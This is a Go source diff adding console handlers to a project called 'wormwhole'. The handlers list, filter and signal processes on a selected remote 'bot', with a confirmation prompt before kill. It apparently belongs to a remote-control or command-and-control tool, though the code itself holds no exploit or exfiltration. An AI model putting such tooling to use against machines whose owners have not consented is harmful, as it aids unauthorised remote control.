@@ -0,0 +1,204 @@
+package console
+
+import (
+	"encoding/json"
+	"fmt"
+	"github.com/fatih/color"
+	"github.com/xorium/wormwhole/core"
+	"github.com/xorium/wormwhole/server"
+	"golang.org/x/sys/unix"
+	"os"
+	"regexp"
+	"sort"
+	"strconv"
+	"strings"
+	"text/tabwriter"
+	"time"
+)
+
+const processListTimeout = 30 * time.Second
+
+// killArgs matches the options and the pid, other input like "kill -9 1"
+// falls through to the shell command.
+const killArgs = `((?:--\S+ +(?:[^-\s]\S* +)?)*\d+)`
+
+var processSorts = map[string]func(a, b *core.Process) bool{
+	"pid":   func(a, b *core.Process) bool { return a.PID < b.PID },
+	"cpu":   func(a, b *core.Process) bool { return a.CPUPercent > b.CPUPercent },
+	"rss":   func(a, b *core.Process) bool { return a.RSS > b.RSS },
+	"start": func(a, b *core.Process) bool { return a.StartTime.After(b.StartTime) },
+}
+
+func (c *Console) listProcesses(bot *server.Bot) ([]*core.Process, error) {
+	cmd := server.PsCommand()
+	cmd.Session = c.sessionId
+	resp, err := c.srv.Call(cmd, bot, processListTimeout)
+	if err != nil {
+		return nil, err
+	}
+	var processes []*core.Process
+	if err := json.Unmarshal(resp, &processes); err != nil {
+		return nil, fmt.Errorf("incorrect processes list: %v", err)
+	}
+	return processes, nil
+}
+
+func (c *Console) PsCmdHandler(matches []string) error {
+	c.RLock()
+	currBot := c.currentBot
+	c.RUnlock()
+	if currBot == nil {
+		return fmt.Errorf("bot is unselected")
+	}
+	opts, rest, err := splitOptions(matches[1])
+	if err != nil {
+		return err
+	}
+	if rest != "" {
+		return fmt.Errorf("unexpected argument: %s", rest)
+	}
+	sortBy := "pid"
+	if opts.Has("sort") {
+		sortBy = opts.Get("sort")
+	}
+	less, ok := processSorts[sortBy]
+	if !ok {
+		return fmt.Errorf("unknown sort field: %s", sortBy)
+	}
+	filter, err := regexp.Compile(opts.Get("grep"))
+	if err != nil {
+		return fmt.Errorf("incorrect grep regexp: %v", err)
+	}
+	limit := 0
+	if opts.Has("limit") {
+		if limit, err = strconv.Atoi(opts.Get("limit")); err != nil || limit <= 0 {
+			return fmt.Errorf("incorrect limit: %s", opts.Get("limit"))
+		}
+	}
+
+	processes, err := c.listProcesses(currBot)
+	if err != nil {
+		return err
+	}
+	var selected []*core.Process
+	for _, p := range processes {
+		if opts.Has("user") && p.User != opts.Get("user") && strconv.Itoa(int(p.UID)) != opts.Get("user") {
+			continue
+		}
+		if !filter.MatchString(p.Command()) {
+			continue
+		}
+		selected = append(selected, p)
+	}
+	sort.SliceStable(selected, func(i, j int) bool { return less(selected[i], selected[j]) })
+	if limit > 0 && len(selected) > limit {
+		selected = selected[:limit]
+	}
+	if len(selected) == 0 {
+		color.HiYellow("no processes found")
+		return nil
+	}
+	printProcesses(selected)
+	return nil
+}
+
+func printProcesses(processes []*core.Process) {
+	w := tabwriter.NewWriter(os.Stdout, 0, 0, 2, ' ', 0)
+	_, _ = fmt.Fprintln(w, "PID\tPPID\tUSER\tS\tCPU%\tRSS\tSTART\tCOMMAND")
+	for _, p := range processes {
+		user := p.User
+		if user == "" {
+			user = strconv.Itoa(int(p.UID))
+		}
+		_, _ = fmt.Fprintf(
+			w, "%d\t%d\t%s\t%s\t%.1f\t%s\t%s\t%s\n",
+			p.PID, p.PPID, user, p.State, p.CPUPercent, formatBytes(p.RSS),
+			formatStartTime(p.StartTime), p.Command(),
+		)
+	}
+	_ = w.Flush()
+}
+
+func formatStartTime(t time.Time) string {
+	if time.Since(t) < 24*time.Hour {
+		return t.Local().Format("15:04")
+	}
+	return t.Local().Format("Jan02")
+}
+
+// KillCmdHandler shows the processes to be signaled and asks for the
+// confirmation before sending the command.
+func (c *Console) KillCmdHandler(matches []string) error {
+	c.RLock()
+	currBot := c.currentBot
+	c.RUnlock()
+	if currBot == nil {
+		return fmt.Errorf("bot is unselected")
+	}
+	opts, rest, err := splitOptions(matches[1], "tree")
+	if err != nil {
+		return err
+	}
+	req := core.KillRequest{Signal: "TERM"}
+	pid, err := strconv.Atoi(rest)
+	if err != nil {
+		return fmt.Errorf("incorrect pid: %s", rest)
+	}
+	if opts.Has("signal") {
+		req.Signal = opts.Get("signal")
+	}
+	signal, err := core.ParseSignal(req.Signal)
+	if err != nil {
+		return err
+	}
+
+	processes, err := c.listProcesses(currBot)
+	if err != nil {
+		return err
+	}
+	targets := []int{pid}
+	if opts.Has("tree") {
+		targets = append(targets, core.Descendants(processes, pid)...)
+	}
+	byPid := make(map[int]*core.Process, len(processes))
+	for _, p := range processes {
+		byPid[p.PID] = p
+	}
+	var affected []*core.Process
+	for _, pid := range targets {
+		if p, ok := byPid[pid]; ok {
+			affected = append(affected, p)
+			req.Targets = append(req.Targets, core.KillTarget{PID: p.PID, StartTime: p.StartTime})
+		}
+	}
+	if len(affected) == 0 {
+		return fmt.Errorf("process %d is not found", pid)
+	}
+	printProcesses(affected)
+	color.HiYellow("send %s to %d process(es)? [y/N] ", unix.SignalName(signal), len(affected))
+	answer, err := c.getInput()
+	if err != nil {
+		return err
+	}
+	if answer = strings.ToLower(strings.TrimSpace(answer)); answer != "y" && answer != "yes" {
+		color.HiYellow("cancelled")
+		return nil
+	}
+	return c.executeCommand(server.KillCommand(req), currBot)
+}
+
+func printKillResult(resp []byte) {
+	var result core.KillResult
+	if err := json.Unmarshal(resp, &result); err != nil {
+		color.HiRed("incorrect kill result: %v", err)
+		return
+	}
+	pids := make([]string, 0, len(result.Signaled))
+	for _, pid := range result.Signaled {
+		pids = append(pids, strconv.Itoa(pid))
+	}
+	color.White("%s sent to %s", result.Signal, strings.Join(pids, ", "))
+	for _, e := range result.Errors {
+		color.HiRed("%s", e)
+	}
+}